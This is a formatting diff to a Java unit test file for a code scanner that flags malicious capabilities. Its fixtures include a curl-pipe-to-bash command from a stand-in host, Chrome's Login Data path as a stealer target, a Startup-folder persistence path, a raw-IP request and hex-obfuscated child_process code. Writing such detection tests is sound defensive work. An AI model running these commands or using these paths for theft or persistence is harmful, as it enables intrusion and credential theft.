@@ -55,7 +55,10 @@ class TextScannerTest {
 
   @Test
   void scan_singleEnvVariableOrKeysForDebug_notHarvest() {
-    assertThat(caps("const c = process.env.FORCE_COLOR; Object.keys(process.env).filter(k => /^debug_/i.test(k));", Lang.JS))
+    assertThat(
+            caps(
+                "const c = process.env.FORCE_COLOR; Object.keys(process.env).filter(k => /^debug_/i.test(k));",
+                Lang.JS))
         .doesNotContain(Capability.ENV_HARVEST);
   }
 
@@ -79,18 +82,23 @@ class TextScannerTest {
 
   @Test
   void scan_browserLoginData_stealerTarget() {
-    assertThat(caps("p = os.path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')", Lang.PY))
+    assertThat(
+            caps(
+                "p = os.path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')",
+                Lang.PY))
         .contains(Capability.STEALER_TARGET);
   }
 
   @Test
   void scan_curlPipeToShell_shellPipe() {
-    assertThat(caps("curl -s http://x.example/i.sh | bash", Lang.SHELL)).contains(Capability.SHELL_PIPE);
+    assertThat(caps("curl -s http://x.example/i.sh | bash", Lang.SHELL))
+        .contains(Capability.SHELL_PIPE);
   }
 
   @Test
   void scan_rawIpUrl_rawIp() {
-    assertThat(caps("requests.get('http://45.13.22.7:8080/p')", Lang.PY)).contains(Capability.RAW_IP);
+    assertThat(caps("requests.get('http://45.13.22.7:8080/p')", Lang.PY))
+        .contains(Capability.RAW_IP);
   }
 
   @Test
@@ -119,8 +127,7 @@ class TextScannerTest {
     // "child_process" and "execSync" hex-encoded
     String code =
         "var a=['6368696c645f70726f63657373','6578656353796e63'];require(x(a[0]))[x(a[1])]('id');";
-    assertThat(caps(code, Lang.JS))
-        .contains(Capability.STRONG_OBFUSCATION, Capability.PROCESS);
+    assertThat(caps(code, Lang.JS)).contains(Capability.STRONG_OBFUSCATION, Capability.PROCESS);
   }
 
   @Test
@@ -135,25 +142,34 @@ class TextScannerTest {
 
   @Test
   void scan_dataUriImage_notReportedAsEncodedCode() {
-    String png = "A".repeat(30) + "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
+    String png =
+        "A".repeat(30)
+            + "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
     assertThat(caps("img.src = 'data:image/png;base64," + png + "';", Lang.JS))
         .doesNotContain(Capability.STRONG_OBFUSCATION);
   }
 
   @Test
   void scan_persistenceStartupFolder_detected() {
-    assertThat(caps("p = r'C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup'", Lang.PY))
+    assertThat(
+            caps(
+                "p = r'C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup'",
+                Lang.PY))
         .contains(Capability.PERSISTENCE);
   }
 
   @Test
   void scan_findingHasLineAndEvidence() {
-    var s = TextScanner.scan("lib/a.js", "// header\n\nconst cp = require('child_process');\n", Lang.JS);
-    assertThat(s).anySatisfy(x -> {
-      assertThat(x.finding().file()).isEqualTo("lib/a.js");
-      assertThat(x.finding().line()).isEqualTo(3);
-      assertThat(x.finding().evidence()).contains("child_process");
-      assertThat(x.finding().why()).isNotBlank();
-    });
+    var s =
+        TextScanner.scan(
+            "lib/a.js", "// header\n\nconst cp = require('child_process');\n", Lang.JS);
+    assertThat(s)
+        .anySatisfy(
+            x -> {
+              assertThat(x.finding().file()).isEqualTo("lib/a.js");
+              assertThat(x.finding().line()).isEqualTo(3);
+              assertThat(x.finding().evidence()).contains("child_process");
+              assertThat(x.finding().why()).isNotBlank();
+            });
   }
 }
